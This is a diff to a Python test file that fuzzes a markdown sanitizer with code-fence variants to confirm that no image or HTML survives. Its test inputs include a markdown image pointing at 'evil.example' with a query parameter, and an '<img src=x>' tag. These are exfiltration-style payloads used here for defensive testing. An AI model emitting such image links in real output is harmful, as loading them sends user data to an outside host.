@@ -13,6 +13,12 @@ PIECES = (
     "<pre>", "<script>", "<?", "?>", "<https://example.org>", "\\", "a", "# ", "***", "\r", "&lt;", "|-|-|", "<![CDATA[",
 )  # fmt: skip
 
+IMAGE = "![a](https://evil.example/?q=b)"
+LINES = (
+    *(f"{before}{fence}" for before in ("", " ", "   ", "    ", "\t", "- ", "  ", "1. ", "> ", "+ ") for fence in ("```", "~~~")),
+    "````", "```js", "``` ", "```a`", "text", "", "- a", IMAGE, f"  {IMAGE}", f"    {IMAGE}", f"> {IMAGE}", "<img src=x>",
+)  # fmt: skip
+
 
 def kinds(markdown: str) -> set[str]:
     """Of the tokens that a reader makes of it."""
@@ -26,6 +32,12 @@ def test_no_reader_finds_an_image_or_html_in_it(text: str) -> None:
     assert not kinds(disarm(text)) & {"image", "html_inline", "html_block"}, repr(text)
 
 
+@given(st.lists(st.sampled_from(LINES), max_size=8).map("\n".join))
+@settings(max_examples=1500, deadline=None, database=None)
+def test_no_fence_hides_an_image_or_html(text: str) -> None:
+    assert not kinds(disarm(text)) & {"image", "html_inline", "html_block"}, repr(text)
+
+
 @pytest.mark.parametrize(
     ("written", "leaves"),
     [
@@ -35,6 +47,11 @@ def test_no_reader_finds_an_image_or_html_in_it(text: str) -> None:
         ("<https://example.org> and 1 < 2", "<https://example.org> and 1 < 2"),
         ("```html\n<img> ![a](b)\n```\n![a](b)", "```html\n<img> ![a](b)\n```\n[a](b)"),
         ("Done!", "Done!"),
+        ("```\ncode\n ```\n![a](b)", "```\ncode\n ```\n[a](b)"),
+        ("```\ncode\u2028```\n![a](b)", "```\ncode\n```\n[a](b)"),
+        (" ```\n```\n![a](b)", " ```\n```\n[a](b)"),
+        ("- ```\n  <p>\n  ```\n\n```\n<p>\n```", "- ```\n  &lt;p>\n  ```\n\n```\n&lt;p>\n```"),
+        ("````\n```\n<p>\n```\n````\n<p>", "````\n```\n<p>\n```\n````\n&lt;p>"),
     ],
 )
 def test_the_rest_stays_as_it_was_written(written: str, leaves: str) -> None:
